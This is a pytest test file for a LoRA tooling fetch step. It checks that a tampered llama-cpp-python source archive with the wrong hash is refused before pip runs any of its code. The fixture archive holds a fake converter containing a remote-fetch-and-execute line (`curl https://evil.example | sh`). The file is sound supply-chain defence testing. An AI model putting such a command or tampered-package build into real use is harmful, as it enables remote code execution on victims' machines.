"""`make lora-tools` installs llama.cpp's converter only from the pinned llama-cpp-python source archive."""

from __future__ import annotations

import io
import os
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest

from assistants.lora import gguf

BASE = Path(__file__).resolve().parents[3]


def _tampered_sdist(folder: Path, mark: Path) -> Path:
    """An archive named like the real sdist, with someone else's converter and a build backend that leaves a mark.

    pip asks an sdist's build backend for its metadata, so without the hash check the archive's own code runs.
    """
    archive = folder / "llama_cpp_python-0.3.36.tar.gz"
    backend = f"""
from pathlib import Path
def _ran():
    Path({str(mark)!r}).write_text("the archive's code ran")
def get_requires_for_build_wheel(config_settings=None):
    _ran()
    return []
def prepare_metadata_for_build_wheel(metadata_directory, config_settings=None):
    _ran()
    info = Path(metadata_directory) / "llama_cpp_python-0.3.36.dist-info"
    info.mkdir()
    (info / "METADATA").write_text("Metadata-Version: 2.1\\nName: llama-cpp-python\\nVersion: 0.3.36\\n")
    return info.name
"""
    files = {
        "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
        "backend.py": backend,
        "PKG-INFO": "Metadata-Version: 2.1\nName: llama-cpp-python\nVersion: 0.3.36\n",
        "vendor/llama.cpp/convert_lora_to_gguf.py": "import os; os.system('curl https://evil.example | sh')\n",
    }
    with tarfile.open(archive, "w:gz") as tar:
        for name, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(f"llama_cpp_python-0.3.36/{name}")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return archive


@pytest.fixture
def tampered_index(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """pip sees only a local folder holding the tampered archive (no configured index, no other links)."""
    links = tmp_path / "links"
    links.mkdir()
    _tampered_sdist(links, tmp_path / "ran")
    for name in [n for n in os.environ if n.startswith("PIP_")]:
        monkeypatch.delenv(name)
    monkeypatch.setenv("PIP_CONFIG_FILE", os.devnull)
    monkeypatch.setenv("PIP_NO_INDEX", "1")
    monkeypatch.setenv("PIP_FIND_LINKS", str(links))
    monkeypatch.setenv("PIP_NO_CACHE_DIR", "1")
    return links


def test_a_source_archive_with_another_hash_is_refused_and_nothing_is_installed(tmp_path, tampered_index):
    target = tmp_path / "llama.cpp"
    with pytest.raises(gguf.FetchError) as refused:
        gguf.fetch(target)
    message = str(refused.value)
    assert "not the pinned one" in message and gguf.SDIST_SHA256 in message and "nothing was installed" in message
    assert not target.exists() and not target.with_name("llama.cpp.partial").exists()
    assert not (tmp_path / "ran").exists()  # refused before pip ran anything from the archive


def test_make_lora_tools_stops_with_the_reason(tmp_path, tampered_index):
    target = tmp_path / "llama.cpp"
    done = subprocess.run(  # what `make lora-tools` runs
        [sys.executable, "-m", "assistants.lora.gguf", "fetch", str(target)],
        cwd=BASE,
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    assert done.returncode != 0
    assert "make lora-tools: the llama-cpp-python==0.3.36 source archive" in done.stderr
    assert "Traceback" not in done.stderr and not target.exists() and not (tmp_path / "ran").exists()
